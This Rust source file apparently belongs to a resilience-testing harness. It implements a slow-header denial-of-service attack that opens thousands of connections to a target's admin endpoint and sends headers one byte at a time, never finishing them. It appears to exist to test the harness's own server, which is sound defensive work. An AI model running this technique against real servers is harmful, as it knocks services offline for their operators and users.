//! HTTP clients that send a header a byte at a time and never end it.

use super::assault::Assault;
use rand::rngs::SmallRng;
use std::time::{Duration, Instant};

const CONNECTIONS_MAX: usize = 8000;

/// Bytes of the header that come at once.
const FIRST_BYTES: usize = 4000;

/// As many as this process may open files for, up to 8,000.
pub fn slow(assault: &Assault<'_>, _: &mut SmallRng) {
    let most = assault.size(CONNECTIONS_MAX, 500).min(assault.stage.files_max / 2);
    let first =
        [b"GET /metrics HTTP/1.1\r\nHost: here\r\nX-Slow: ".to_vec(), vec![b'x'; FIRST_BYTES]].concat();
    let until = Instant::now() + assault.size(Duration::from_secs(15), Duration::from_secs(1));
    let mut hostiles = Vec::new();
    while hostiles.len() < most && Instant::now() < until && assault.stage.is_attacked() {
        let Some(mut hostile) = assault.connect(assault.stage.target.admin) else { break };
        hostile.send([&first]);
        hostiles.push(hostile);
    }
    for _ in 0..assault.size(4, 1) {
        assault.stage.hold(Duration::from_secs(1));
        for hostile in &mut hostiles {
            hostile.send([b"x"]);
        }
    }
    for hostile in hostiles.iter_mut().take(10) {
        hostile.answer(Duration::from_millis(20));
    }
}
